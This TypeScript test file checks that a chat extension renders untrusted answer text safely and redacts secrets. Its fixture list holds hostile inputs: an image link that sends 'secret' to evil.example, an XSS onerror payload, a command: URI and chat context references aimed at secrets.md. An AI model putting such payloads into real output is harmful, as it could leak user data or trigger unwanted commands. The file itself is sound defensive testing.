import assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { answerMarkdown, answerText, foreign, item, paragraph } from '../../../src/host/answer';

/** As credulous as a renderer can be. */
const renderer = new MarkdownIt({ html: true, linkify: true, typographer: false });

const HOSTILE = [
  '[click](command:autodream.undoDream)',
  '![x](https://evil.example/?q=secret)',
  '<img src=x onerror=alert(1)>',
  'https://evil.example and www.evil.example and me@evil.example',
  '$(alert) **bold** _it_ `code` ~~gone~~',
  '# heading',
  '1. one',
  '- item\n\n> quote\n\n    code',
  '&lt;b&gt; &#91;x&#93;',
  '#file:secrets.md @workspace /undo',
  '| a | b |\n|---|---|',
  '```\nfence',
  'Ünïcödé 日本 🙂 “quoted” — 5432 → 5433',
];

describe('an answer in a chat', () => {
  for (const text of HOSTILE) {
    it(`shows ${JSON.stringify(text)} as text`, () => {
      const html = renderer.render(answerMarkdown([paragraph('Said: ', foreign(text)), item(foreign(text))]));
      assert.deepEqual(html.match(/<(?!\/?(?:p|ul|li)>)[^>]*>/g) ?? [], [], html);
      const shown = html
        .replace(/<[^>]+>/g, '')
        .replace(
          /&lt;|&gt;|&amp;|&quot;/g,
          (name) => ({ '&lt;': '<', '&gt;': '>', '&amp;': '&', '&quot;': '"' })[name] ?? '',
        )
        .trim();
      const flat = text.replace(/\n+/g, ' ');
      assert.equal(shown.replace(/\s+/g, ' '), `Said: ${flat} ${flat}`.replace(/\s+/g, ' '));
    });
  }

  it('sets paragraphs and items apart', () => {
    const answer = [paragraph('One'), item('a'), item('b'), paragraph('Two')];
    assert.equal(answerText(answer), 'One\n\n- a\n- b\n\nTwo');
    assert.equal(answerMarkdown(answer), 'One\n\n- a\n- b\n\nTwo');
  });

  it('says no secret, and shows what hides', () => {
    const key = ['sk', 'ant', 'api03', 'aB3'.repeat(30)].join('-');
    const text = answerText([paragraph(foreign(`The key is ${key}\u202E.`))]);
    assert.ok(!text.includes(key), text);
    assert.ok(text.includes('<U+202E>'));
  });
});
